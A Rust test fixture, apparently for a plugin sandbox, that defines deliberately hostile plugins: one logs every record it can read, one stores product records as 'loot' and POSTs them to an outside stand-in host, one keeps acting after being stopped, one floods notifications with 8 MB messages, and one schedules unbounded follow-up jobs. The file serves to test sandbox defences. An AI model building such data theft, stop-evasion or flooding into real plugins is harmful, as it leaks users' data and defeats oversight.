//! Programs that mean harm.

use std::{
    collections::HashMap,
    sync::{LazyLock, Mutex},
    time::Duration,
};

use plugins::wall::Taped;
use sandbox::{Failure, Host as _, Outcome, Remedy, Request, Trigger};
use testkit::{Value, json};

use crate::{
    programs::{Program, body, done, failed},
    somebody::OUTSIDE,
};

type Does = Box<dyn FnOnce() + Send>;

/// What somebody does while a program works that was told this name.
pub static MEANWHILE: LazyLock<Mutex<HashMap<String, Does>>> = LazyLock::new(Mutex::default);

pub const PROGRAMS: &[(&str, Program)] =
    &[("spy", spy), ("smuggler", smuggle), ("stubborn", go_on), ("shouter", shout), ("breeder", breed)];

/// Writes down all that it is told, and all that it can read of it.
fn spy(trigger: &Trigger, reach: &mut Taped) -> Result<Outcome, Failure> {
    reach.log(sandbox::Level::Info, &trigger.body);
    let subject = body(trigger)["subject"].as_str().unwrap_or_default().to_owned();
    for kind in ["product", "movement"] {
        let read = reach.get_record(kind, &subject).ok().flatten().unwrap_or_default();
        let listed = reach.list_records(kind, "", None).map(|page| page.records).unwrap_or_default();
        reach.log(sandbox::Level::Info, &read);
        reach.log(sandbox::Level::Info, &listed);
    }
    done(Vec::new())
}

/// What it learned in one call it sends in another; what it was just told at once.
fn smuggle(trigger: &Trigger, reach: &mut Taped) -> Result<Outcome, Failure> {
    let body = body(trigger);
    let subject = body["subject"].as_str().unwrap_or_default().to_owned();
    let loot = match body["said"]["name"].as_str() {
        Some("learn") => {
            let read = reach.get_record("product", &subject).unwrap().unwrap();
            reach.put_entry("loot", read.into_bytes(), None).unwrap();
            return done(Vec::new());
        }
        Some("ship") => reach.get_entry("loot").unwrap().map(|entry| entry.value).unwrap_or_default(),
        Some("at once") => reach.get_record("product", &subject).unwrap().unwrap().into_bytes(),
        _ => trigger.body.clone().into_bytes(),
    };
    sent(reach.send(request("POST", "/api?what=loot", loot)))
}

/// Goes on as if nobody had said anything meanwhile.
fn go_on(trigger: &Trigger, reach: &mut Taped) -> Result<Outcome, Failure> {
    let name = body(trigger)["said"]["name"].as_str().unwrap().to_owned();
    let before = reach.send(request("GET", "/api?what=before", Vec::new())).is_ok();
    let meanwhile = MEANWHILE.lock().unwrap().remove(&name);
    let was_stopped = meanwhile.is_some();
    meanwhile.into_iter().for_each(|does| does());
    let mut codes = Vec::new();
    for (method, path) in [("GET", "/api?what=asked"), ("POST", "/api?what=changed")] {
        codes.push(reach.send(request(method, path, Vec::new())).map_or_else(|no| no.code, |_| "sent".to_owned()));
    }
    reach.put_entry("went on", codes.join(",").into_bytes(), None).unwrap();
    reach.log(sandbox::Level::Info, &format!("{before} {was_stopped} {}", codes.join(",")));
    // Nothing that anybody would ask the door for.
    done(Vec::new())
}

/// Says more than anybody could keep.
fn shout(_: &Trigger, reach: &mut Taped) -> Result<Outcome, Failure> {
    const LOUD: usize = 8 * 1024 * 1024;
    let refused = (0..100).filter(|number| {
        let notice = format!("{{\"title\":\"{number}\",\"text\":\"{}\"}}", "x".repeat(LOUD));
        reach.notify(&notice).is_err_and(|no| no.code == "limit-reached")
    });
    let refused = refused.count();
    reach.notify(&format!("{{\"title\":\"{refused} were refused\"}}")).unwrap();
    done(Vec::new())
}

/// Leaves as many things for later as it is told, and gives up when it is told nothing.
fn breed(trigger: &Trigger, _: &mut Taped) -> Result<Outcome, Failure> {
    let Ok(most) = body(trigger)["said"]["name"].as_str().unwrap_or_default().parse::<usize>() else {
        return failed(Remedy::Attention, "enough");
    };
    let own = trigger.id.chars().rev().take(8).collect::<String>();
    let later: Vec<Value> = (0..most).map(|at| json!({ "name": "more", "about": format!("{own} {at}") })).collect();
    done(Vec::new()).map(|outcome| Outcome { facts: json!({ "later": later }).to_string(), ..outcome })
}

fn sent(answer: sandbox::Answer<sandbox::Response>) -> Result<Outcome, Failure> {
    match answer {
        Ok(_) => done(Vec::new()),
        Err(problem) => failed(Remedy::Permanent, format!("{}: {}", problem.code, problem.detail)),
    }
}

fn request(method: &str, path: &str, body: Vec<u8>) -> Request {
    Request {
        method: method.to_owned(),
        url: format!("http://{}{path}", *OUTSIDE),
        headers: Vec::new(),
        body,
        attach: Vec::new(),
        key: None,
        options: String::new(),
        patience: Duration::from_secs(5),
    }
}
